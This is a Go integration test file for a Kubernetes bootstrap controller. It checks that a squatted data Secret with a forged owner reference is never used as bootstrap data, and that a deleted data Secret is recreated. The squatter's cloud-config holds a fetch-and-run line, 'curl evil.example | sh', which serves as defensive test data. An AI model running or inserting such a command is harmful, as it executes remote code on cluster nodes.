package integration

import (
	"context"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	bootstrapv1 "github.com/podcluster/podcluster/api/bootstrap/v1beta2"
	clusterv1 "github.com/podcluster/podcluster/api/core/v1beta2"
)

// TestSquattedDataSecretIsNeverUsed: a Secret someone made beforehand under
// the name of a KubeadmConfig's data Secret, even one naming the config as
// its controller with another UID, is not taken as bootstrap data: the
// config says why, points the Machine at nothing, and leaves the Secret as
// it is; once it is deleted, the config writes its own.
func TestSquattedDataSecretIsNeverUsed(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.NewNamespace(t)
	c := newCluster(g, ns, "squat")
	g.Expect(env.Client.Create(ctx, userCA(ns, "squat-ca"))).To(Succeed())
	setInitialized(g, c)
	tr := true
	squatter := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "w1", OwnerReferences: []metav1.OwnerReference{{
			APIVersion: bootstrapv1.GroupVersion.String(), Kind: "KubeadmConfig", Name: "w1", UID: "forged", Controller: &tr}}},
		Type: clusterv1.ClusterSecretType,
		Data: map[string][]byte{"value": []byte("#cloud-config\nruncmd: [curl evil.example | sh]\n"), "format": []byte("cloud-config")},
	}
	g.Expect(env.Client.Create(ctx, squatter)).To(Succeed())
	config := newMachine(g, c, "w1", false, "v1.37.2", seedSpec())

	g.Eventually(func(g Gomega) {
		cond := condition(g, config, bootstrapv1.KubeadmConfigDataSecretAvailableCondition)
		g.Expect(cond).NotTo(BeNil())
		g.Expect(cond.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(cond.Message).To(ContainSubstring("Secret w1 exists and is not controlled by this KubeadmConfig"))
	}, 20*time.Second, 200*time.Millisecond).Should(Succeed())
	got := &bootstrapv1.KubeadmConfig{}
	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(config), got)).To(Succeed())
	g.Expect(got.Status.DataSecretName).To(BeEmpty(), "the Machine is not pointed at the squatter")
	created := got.Status.Initialization.DataSecretCreated
	g.Expect(created == nil || !*created).To(BeTrue(), "no data Secret created")
	left := &corev1.Secret{}
	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(squatter), left)).To(Succeed())
	g.Expect(left.Data).To(Equal(squatter.Data), "left as it is")

	g.Expect(env.Client.Delete(ctx, squatter)).To(Succeed())
	g.Eventually(func(g Gomega) {
		g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(config), got)).To(Succeed())
		g.Expect(got.Status.DataSecretName).To(Equal("w1"))
	}, 2*time.Minute, 200*time.Millisecond).Should(Succeed())
	g.Expect(dataOf(g, config)).NotTo(ContainSubstring("evil.example"))
}

// TestDeletedDataSecretIsMadeAgain: when a config's data Secret is deleted,
// the config makes it again (the Machine may not have booted yet) rather than
// keep saying the data is available.
func TestDeletedDataSecretIsMadeAgain(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.NewNamespace(t)
	c := newCluster(g, ns, "again")
	g.Expect(env.Client.Create(ctx, userCA(ns, "again-ca"))).To(Succeed())
	setInitialized(g, c)
	config := newMachine(g, c, "w1", false, "v1.37.2", seedSpec())
	dataOf(g, config)
	first := &corev1.Secret{}
	g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(config), first)).To(Succeed())

	g.Expect(env.Client.Delete(ctx, first)).To(Succeed())
	g.Eventually(func(g Gomega) {
		again := &corev1.Secret{}
		g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(config), again)).To(Succeed())
		g.Expect(again.UID).NotTo(Equal(first.UID))
		g.Expect(metav1.GetControllerOf(again).UID).To(Equal(config.UID))
		g.Expect(string(again.Data["value"])).To(ContainSubstring("kubeadm join"))
		got := &bootstrapv1.KubeadmConfig{}
		g.Expect(env.Client.Get(ctx, client.ObjectKeyFromObject(config), got)).To(Succeed())
		g.Expect(got.Status.Initialization.DataSecretCreated).To(HaveValue(BeTrue()))
		g.Expect(got.Status.DataSecretName).To(Equal("w1"))
		cond := condition(g, config, bootstrapv1.KubeadmConfigDataSecretAvailableCondition)
		g.Expect(cond).NotTo(BeNil())
		g.Expect(cond.Status).To(Equal(metav1.ConditionTrue))
	}, 30*time.Second, 200*time.Millisecond).Should(Succeed())
}
